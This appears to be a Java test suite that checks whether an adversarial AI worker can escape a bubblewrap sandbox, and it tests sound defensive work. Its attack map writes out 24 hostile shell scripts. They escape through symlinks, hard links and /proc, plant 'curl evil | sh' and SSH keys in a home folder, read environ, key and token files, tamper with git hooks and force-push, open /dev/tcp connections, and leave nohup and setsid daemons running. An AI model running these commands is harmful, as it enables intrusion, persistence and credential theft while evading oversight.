package dev.loopkit.llm.work;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.loopkit.core.Assignment;
import dev.loopkit.core.Budget;
import dev.loopkit.core.Ticket;
import dev.loopkit.core.WorkResult;
import dev.loopkit.core.Workspace;
import dev.loopkit.core.process.Command;
import dev.loopkit.core.process.CommandOutcome;
import dev.loopkit.core.process.Jail;
import dev.loopkit.core.process.ProcessRunner;
import dev.loopkit.core.process.Sandbox;
import dev.loopkit.llm.tools.ToolCall;
import dev.loopkit.llm.tools.ToolOutput;
import dev.loopkit.llm.tools.Toolbox;
import dev.loopkit.llm.tools.WorkspaceTools;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFileAttributes;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The sandbox escape suite: what an adversarial worker tries, through the real {@code run_command} tool and
 * through a real custom command agent ({@link CommandWorker} running a shell script as the "agent"), each
 * confined by real bubblewrap ({@code ProcessRunner.confined(Sandbox.bubblewrap(), Jail.of(workspace)...)}) in a
 * layout like a real project: a main repository with {@code loop.yaml}, a {@code tickets/} folder, the run
 * directory {@code .loop/runs/run-001/journal.jsonl}, this ticket's workspace (a clone borrowing the main
 * repository's objects, shown read-only), a second ticket's workspace, and a fake host {@code HOME} with secret
 * files.
 *
 * <p>Every attempt asserts that nothing outside the workspace changed (the whole temporary tree outside it is
 * hashed before and after: content, type, mode and modification time of every entry), that no secret was read
 * (sentinel values placed in the files the JVM can see, and in the would-be host environment the command's
 * allow-list is resolved against, appear in none of the attempt's output, the agent's result or its
 * transcript, nor masked as {@code [redacted]}), and that the attack script itself ran.
 *
 * <p><b>24 attacks, each made through both paths: 48 attempts, 0 escapes</b> (asserted per attempt):
 * writes by relative path, by absolute path, deleting the tickets, through a symlink, through a hard link,
 * through {@code /proc/self/root} and through {@code /proc/<pid>/cwd} and {@code /proc/<pid>/root}; writes to the
 * host {@code HOME}; reading {@code /proc/<pid>/environ} of every pid, listing {@code /proc} (no process of the
 * JVM visible) and the environment; reading the tickets folder, the run directory and {@code loop.yaml}, the
 * main repository's working tree, another ticket's workspace and the host {@code HOME}; git pushes and
 * {@code update-ref} to the integration branch, git config and hooks of the main repository through
 * {@code ../}, writes into the borrowed object store; connecting to a loopback port the test opened outside
 * the sandbox (network off; the server counts connections); daemons started with {@code nohup}, with
 * {@code setsid} and with a double fork (each appends to a marker in the workspace every 100 ms; the marker
 * must stop growing once the attempt ends); a daemon that waits and then writes outside; and the timeout
 * killing a tree of busy processes. A control ({@link #theSameAttacksWithoutASandboxDoEscape}) runs three of
 * them under {@link Sandbox#none()} and sees them escape, so the checks can fail.
 */
class SandboxEscapeTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String FILE_SENTINEL = "loop-file-sentinel-" + UUID.randomUUID();
  private static final String ENV_SENTINEL = "loop-env-sentinel-" + UUID.randomUUID();
  private static final String KEY_SENTINEL = "sk-ant-sentinel-" + UUID.randomUUID();
  private static final Instant NOW = Instant.parse("2026-01-01T00:00:00Z");

  @TempDir
  Path root;

  private Path project;
  private Path ws;
  private Path runDir;
  private Path agentDir;
  private Path home;
  private ServerSocket server;
  private final AtomicInteger connections = new AtomicInteger();
  private Thread acceptor;

  // ---------------------------------------------------------------- the layout

  private static void sh(Path dir, String... argv) throws Exception {
    CommandOutcome out = ProcessRunner.unconfined().run(Command.builder(List.of(argv)).directory(dir)
        .env("PATH", "/usr/bin:/bin").env("HOME", dir.toString()).env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "t").env("GIT_AUTHOR_EMAIL", "t@example.com").env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.com").build());
    assertTrue(out.succeeded(), String.join(" ", argv) + ": " + out.stderr());
  }

  private static void write(Path file, String text) throws IOException {
    Files.createDirectories(file.getParent());
    Files.writeString(file, text);
  }

  @BeforeEach
  void layout() throws Exception {
    project = root.resolve("project");
    write(project.resolve("src/App.java"), "class App {}\n");
    write(project.resolve("tests/verify.sh"), "#!/bin/sh\ngrep -q fixed src/App.java\n");
    write(project.resolve(".gitignore"), ".loop/\ntickets/\nloop.yaml\n.env\n");
    sh(project, "git", "init", "-q", "-b", "main");
    sh(project, "git", "add", "-A");
    sh(project, "git", "commit", "-q", "-m", "base");
    write(project.resolve("loop.yaml"), "tracker: {kind: markdown, folder: tickets}\n# " + FILE_SENTINEL + "\n");
    write(project.resolve(".env"), "DB_PASSWORD=" + FILE_SENTINEL + "\n");
    write(project.resolve("tickets/T-1.md"), "---\nid: T-1\nstatus: in_progress\n---\nFix App.\n");
    write(project.resolve("tickets/T-2.md"), "---\nid: T-2\nstatus: open\n---\nSecret plan " + FILE_SENTINEL + "\n");
    runDir = project.resolve(".loop/runs/run-001");
    Files.createDirectories(runDir.resolve("transcripts")); // the harness's own, excluded from the comparison
    write(runDir.resolve("journal.jsonl"), "{\"type\":\"run-started\",\"note\":\"" + FILE_SENTINEL + "\"}\n");
    Path workspaces = Files.createDirectories(project.resolve(".loop/workspaces"));
    sh(workspaces, "git", "clone", "-q", "--shared", project.toString(), "T-1");
    sh(workspaces, "git", "clone", "-q", "--shared", project.toString(), "T-2");
    ws = workspaces.resolve("T-1");
    write(workspaces.resolve("T-2/secret.txt"), FILE_SENTINEL + "\n");
    home = root.resolve("home");
    write(home.resolve(".ssh/id_rsa"), "-----BEGIN KEY-----\n" + FILE_SENTINEL + "\n");
    write(home.resolve(".config/gh/hosts.yml"), "oauth_token: " + FILE_SENTINEL + "\n");
    write(home.resolve(".bashrc"), "# host shell\n");
    agentDir = Files.createDirectories(root.resolve("agent"));
    server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    acceptor = new Thread(() -> {
      while (!server.isClosed()) {
        try {
          Socket s = server.accept();
          connections.incrementAndGet();
          s.close();
        } catch (SocketException closed) {
          return;
        } catch (IOException e) {
          return;
        }
      }
    }, "escape-suite-acceptor");
    acceptor.setDaemon(true);
    acceptor.start();
  }

  @AfterEach
  void closeServer() throws Exception {
    server.close();
    acceptor.join(5000);
  }

  /** What the host's environment would hand a command: sentinels under secret and plain names, the fake HOME. */
  private Map<String, String> hostEnvironment() {
    return Map.of("PATH", "/usr/bin:/bin", "HOME", home.toString(), "ANTHROPIC_API_KEY", KEY_SENTINEL,
        "GITHUB_TOKEN", KEY_SENTINEL, "LOOP_PROJECT_NOTE", ENV_SENTINEL, "DB_URL", ENV_SENTINEL,
        "LANG", "C.UTF-8");
  }

  private ProcessRunner sandboxed() {
    return ProcessRunner.confined(Sandbox.bubblewrap(),
        Jail.of(ws).withReadOnly(List.of(project.resolve(".git/objects"), agentDir)));
  }

  /** Every entry outside the workspace (and the harness's own transcripts): type, mode, time and content. */
  private Map<String, String> outside() throws Exception {
    Map<String, String> state = new TreeMap<>();
    Path transcripts = runDir.resolve("transcripts");
    try (Stream<Path> all = Files.walk(root)) {
      for (Path p : (Iterable<Path>) all::iterator) {
        if (p.startsWith(ws) || p.startsWith(transcripts)) {
          continue;
        }
        PosixFileAttributes a = Files.readAttributes(p, PosixFileAttributes.class, LinkOption.NOFOLLOW_LINKS);
        String kind = a.isSymbolicLink() ? "link->" + Files.readSymbolicLink(p) : a.isDirectory() ? "dir"
            : a.isRegularFile() ? "file:" + sha256(Files.readAllBytes(p)) : "other";
        state.put(root.relativize(p).toString(), kind + " " + PosixFilePermissions.toString(a.permissions()) + " "
            + a.lastModifiedTime().toMillis() + " " + a.size());
      }
    }
    return state;
  }

  private static String sha256(byte[] bytes) throws Exception {
    return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
  }

  // ---------------------------------------------------------------- the attacks

  enum Via { RUN_COMMAND, COMMAND_AGENT }

  /** The attack scripts; {@code $P} is the main repository, {@code $H} the host HOME, {@code $PORT} the server. */
  private static final Map<String, String> ATTACKS = attacks();

  private static Map<String, String> attacks() {
    Map<String, String> a = new LinkedHashMap<>();
    a.put("write-relative", "sed -i 's/status: open/status: done/' ../../../tickets/*.md; echo pwned >"
        + " ../../../tickets/T-3.md; echo x >> ../../../loop.yaml; echo forged >> ../../runs/run-001/journal.jsonl");
    a.put("write-absolute", "echo '{\"type\":\"run-ended\",\"ending\":\"DONE\"}' >> $P/.loop/runs/run-001/journal.jsonl;"
        + " echo pwned > $P/tickets/T-2.md; echo 'sandbox: {kind: none}' >> $P/loop.yaml; echo x > $P/tests/verify.sh");
    a.put("delete-tickets", "rm -rf $P/tickets ../../../tickets; rm -f $P/loop.yaml; rm -rf $P/.loop/runs");
    a.put("write-symlink", "ln -s $P/tickets/T-2.md t2; echo pwned > t2; ln -s $P/.loop/runs/run-001 run;"
        + " echo forged >> run/journal.jsonl; ln -s $P/tests tests-link; echo x > tests-link/verify.sh;"
        + " ln -s ../../../loop.yaml y; echo x >> y");
    a.put("write-hardlink", "ln $P/loop.yaml hard && echo x >> hard; ln $P/tickets/T-2.md hard2 && echo x >> hard2;"
        + " ln $P/tests/verify.sh hard3 && echo x >> hard3; f=$(find $P/.git/objects -type f | head -1);"
        + " ln \"$f\" hard4 && echo x >> hard4");
    a.put("write-proc-self-root", "echo pwned > /proc/self/root$P/tickets/T-2.md; ls -la /proc/self/root$P;"
        + " echo x >> /proc/self/root$P/loop.yaml; echo x > /proc/1/root$P/tests/verify.sh");
    a.put("write-proc-pid-cwd", "for p in /proc/[0-9]*; do ls $p/cwd/../../..; echo pwned > $p/cwd/../../../tickets/T-2.md;"
        + " echo x >> $p/root$P/loop.yaml; echo x >> $p/cwd/../../runs/run-001/journal.jsonl; done");
    a.put("write-host-home", "echo 'curl evil | sh' >> $H/.bashrc; mkdir -p $H/.ssh; echo key >> $H/.ssh/authorized_keys;"
        + " echo x >> ~/.bashrc; ls -la ~");
    a.put("read-proc-environ", "for f in /proc/[0-9]*/environ /proc/self/environ /proc/1/environ; do echo \"== $f\";"
        + " tr '\\0' '\\n' < $f; done");
    a.put("list-proc", "ls /proc; for p in /proc/[0-9]*; do echo \"$p: $(tr '\\0' ' ' < $p/cmdline)\"; done;"
        + " cat /proc/1/status | head -3");
    a.put("read-environment", "env; set; cat /proc/self/environ | tr '\\0' '\\n'");
    a.put("read-tracker-run-config", "cat $P/tickets/*.md $P/loop.yaml $P/.loop/runs/run-001/journal.jsonl;"
        + " cat ../../../tickets/T-2.md ../../../loop.yaml ../../runs/run-001/journal.jsonl; ls -la $P $P/tickets");
    a.put("read-main-worktree", "cat $P/.env ../../../.env; ls -la $P ../../..; cat $P/.git/config;"
        + " find / -name '.env' -not -path '/proc/*' 2>/dev/null | xargs cat");
    a.put("read-other-workspace", "cat $P/.loop/workspaces/T-2/secret.txt ../T-2/secret.txt; ls -la ../T-2;"
        + " echo pwned > ../T-2/src/App.java; echo pwned > $P/.loop/workspaces/T-2/src/App.java");
    a.put("read-host-home", "cat $H/.ssh/id_rsa $H/.config/gh/hosts.yml; ls -la $H; grep -r sentinel / 2>/dev/null"
        + " --exclude-dir=proc --exclude-dir=sys | head -20");
    a.put("git-integration-branch", "git -c user.name=w -c user.email=w@x commit -q --allow-empty -m evil;"
        + " git push -q origin HEAD:main --force;"
        + " git push -q origin HEAD:refs/heads/evil; git --git-dir=$P/.git update-ref refs/heads/main HEAD;"
        + " git --git-dir=../../../.git branch -f main HEAD; git log --oneline -1");
    a.put("git-main-config-and-hooks", "git --git-dir=../../../.git config core.fsmonitor 'touch /tmp/pwn';"
        + " git --git-dir=$P/.git config core.hooksPath /tmp; printf '[include]\\n\\tpath=/tmp/x\\n' >> $P/.git/config;"
        + " mkdir -p $P/.git/hooks; printf '#!/bin/sh\\necho pwned\\n' > $P/.git/hooks/post-commit;"
        + " chmod +x $P/.git/hooks/post-commit; git --git-dir=$P/.git update-index --skip-worktree tests/verify.sh");
    a.put("git-object-store", "echo /tmp >> $P/.git/objects/info/alternates; touch $P/.git/objects/pwn;"
        + " chmod -R u+w $P/.git/objects; f=$(find $P/.git/objects -type f | head -1); echo x >> \"$f\"; rm -f \"$f\"");
    a.put("network-loopback", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/'$PORT && echo CONNECTED-BASH;"
        + " curl -s -m 3 http://127.0.0.1:$PORT/ && echo CONNECTED-CURL; curl -s -m 3 http://localhost:$PORT/"
        + " && echo CONNECTED-LOCALHOST; cat /proc/net/dev");
    a.put("daemon-nohup", "nohup sh -c 'while true; do echo x >> tick-nohup; sleep 0.1; done' > /dev/null 2>&1 &"
        + " sleep 0.3");
    a.put("daemon-setsid", "setsid sh -c 'while true; do echo x >> tick-setsid; sleep 0.1; done' > /dev/null 2>&1 &"
        + " sleep 0.3");
    a.put("daemon-double-fork", "(sh -c 'while true; do echo x >> tick-fork; sleep 0.1; done' > /dev/null 2>&1 &) &"
        + " sleep 0.3");
    a.put("daemon-writes-later", "setsid sh -c 'sleep 1; echo pwned > $0/tickets/T-2.md; echo x >> $0/loop.yaml' $P"
        + " > /dev/null 2>&1 & nohup sh -c 'sleep 1; echo y >> $0/.loop/runs/run-001/journal.jsonl' $P > /dev/null"
        + " 2>&1 &");
    a.put("timeout", "(while true; do echo x >> tick-timeout; sleep 0.1; done) & setsid sh -c 'while true; do"
        + " echo x >> tick-timeout2; sleep 0.1; done' & sleep 300");
    return a;
  }

  static Stream<Arguments> attempts() {
    List<Arguments> all = new ArrayList<>();
    for (String attack : ATTACKS.keySet()) {
      for (Via via : Via.values()) {
        all.add(Arguments.of(attack, via));
      }
    }
    return all.stream();
  }

  @Test
  void theSuiteMakesAtLeastThirtyAttempts() {
    assertEquals(48, attempts().count());
  }

  /** The attack's script: variables first, its output kept whole in the workspace, then a marker that it ran. */
  private String script(String attack) {
    return "P='" + project + "'; H='" + home + "'; PORT=" + server.getLocalPort() + "\n{ " + ATTACKS.get(attack)
        + "\n} > attempt.log 2>&1\necho ran:" + attack + "\n";
  }

  /** The harness's part before the attempt: the agent's script, shown read-only to the sandbox. */
  private Path prepare(String attack) throws Exception {
    Path agent = agentDir.resolve("attack-" + attack + ".sh");
    Files.writeString(agent, script(attack));
    return agent;
  }

  /** The paths whose entry differs between two snapshots. */
  private static Set<String> changes(Map<String, String> before, Map<String, String> after) {
    Set<String> changed = new java.util.TreeSet<>();
    before.forEach((k, v) -> {
      if (!v.equals(after.get(k))) {
        changed.add(k);
      }
    });
    after.keySet().stream().filter(k -> !before.containsKey(k)).forEach(changed::add);
    return changed;
  }

  /** Everything the attempt produced that a harness would keep or pass on. */
  private String attempt(String attack, Via via, ProcessRunner processes) throws Exception {
    boolean timeout = attack.equals("timeout");
    Duration limit = timeout ? Duration.ofSeconds(2) : Duration.ofSeconds(60);
    StringBuilder seen = new StringBuilder();
    if (via == Via.RUN_COMMAND) {
      Toolbox box = WorkspaceTools.builder().commandTimeout(limit).hostEnvironment(this::hostEnvironment).build()
          .open(ws, processes);
      ToolOutput out = box.find("run_command").orElseThrow().execute(ToolCall.of("call-1", "run_command",
          JSON.createObjectNode().put("command", script(attack)), Duration.ofMinutes(5)));
      seen.append(out.text());
      assertEquals(timeout, out.text().startsWith("timed out"), out.text());
    } else {
      Path agent = agentDir.resolve("attack-" + attack + ".sh");
      AgentProfile profile = AgentProfile.custom("attacker", "local", List.of("/bin/sh", agent.toString()),
          AgentProfile.OutputFormat.TEXT);
      Ticket ticket = Ticket.builder("T-1").title("Fix App").build();
      Assignment assignment = new Assignment("run-001", ticket, new Workspace("T-1", ws, Map.of()), 1, List.of(),
          new Budget(1000, BigDecimal.ONE, NOW.plusSeconds(3600), 10), (t, b) -> {
            throw new AssertionError("no discoveries");
          }, runDir, processes);
      WorkResult result = CommandWorker.builder(profile).timeout(limit).hostEnvironment(this::hostEnvironment)
          .clock(java.time.Clock.fixed(NOW, java.time.ZoneOffset.UTC)).build().work(assignment);
      if (timeout) {
        WorkResult.Failed failed = assertInstanceOf(WorkResult.Failed.class, result);
        assertTrue(failed.findings().get(0).startsWith("attacker timed out"), failed.findings().toString());
        seen.append(failed.findings());
      } else {
        seen.append(assertInstanceOf(WorkResult.Completed.class, result).summary());
      }
      seen.append(Files.readString(runDir.resolve("transcripts/T-1-attempt-1.jsonl")));
    }
    Path log = ws.resolve("attempt.log");
    if (Files.exists(log)) {
      seen.append(Files.readString(log));
    }
    if (!timeout) {
      assertTrue(seen.toString().contains("ran:" + attack), "the attack script did not run: " + seen);
    }
    return seen.toString();
  }

  private static final List<String> MARKERS = List.of("tick-nohup", "tick-setsid", "tick-fork", "tick-timeout",
      "tick-timeout2");

  private Map<String, Long> markers() throws IOException {
    Map<String, Long> sizes = new TreeMap<>();
    for (String m : MARKERS) {
      Path p = ws.resolve(m);
      sizes.put(m, Files.exists(p) ? Files.size(p) : -1L);
    }
    return sizes;
  }

  @ParameterizedTest(name = "{0} via {1}")
  @MethodSource("attempts")
  void nothingEscapesTheSandbox(String attack, Via via) throws Exception {
    prepare(attack);
    Map<String, String> before = outside();
    String seen = attempt(attack, via, sandboxed());
    // daemons: whatever the attempt started must be gone; give a survivor time to show itself
    Map<String, Long> markers = markers();
    Thread.sleep(attack.equals("daemon-writes-later") ? 1800 : 700);
    assertEquals(markers, markers(), "a process of the attempt outlived it (its marker still grows)");
    if (attack.startsWith("daemon-") && !attack.equals("daemon-writes-later") || attack.equals("timeout")) {
      assertTrue(markers.values().stream().anyMatch(size -> size > 0), "the daemon never ran: " + markers);
    }
    assertEquals(Set.of(), changes(before, outside()), "something outside the workspace changed");
    for (String secret : List.of(FILE_SENTINEL, ENV_SENTINEL, KEY_SENTINEL)) {
      assertFalse(seen.contains(secret), "a secret was read: " + secret + " in\n" + seen);
    }
    assertFalse(seen.contains("[redacted]"), "a secret reached the attempt and was only masked:\n" + seen);
    assertEquals(0, connections.get(), "the sandbox reached the loopback server outside it");
    if (attack.equals("list-proc")) {
      assertFalse(seen.contains("java") || seen.contains("surefire"), "a process of the JVM is visible:\n" + seen);
      assertFalse(seen.contains("/proc/" + ProcessHandle.current().pid() + ":"), seen);
    }
    if (attack.equals("network-loopback")) {
      assertFalse(seen.contains("CONNECTED"), seen);
    }
  }

  @Test
  void theSameAttacksWithoutASandboxDoEscape() throws Exception {
    // the control: an explicit opt-out, so every check above is one that can fail
    ProcessRunner none = ProcessRunner.confined(Sandbox.none(), Jail.of(ws));
    prepare("read-host-home");
    Map<String, String> before = outside();
    attempt("write-relative", Via.RUN_COMMAND, none);
    Set<String> changed = changes(before, outside());
    assertTrue(changed.contains("project/tickets/T-2.md") && changed.contains("project/loop.yaml"), changed.toString());
    assertTrue(attempt("read-host-home", Via.COMMAND_AGENT, none).contains(FILE_SENTINEL));
    attempt("network-loopback", Via.RUN_COMMAND, none);
    assertTrue(connections.get() > 0);
  }
}
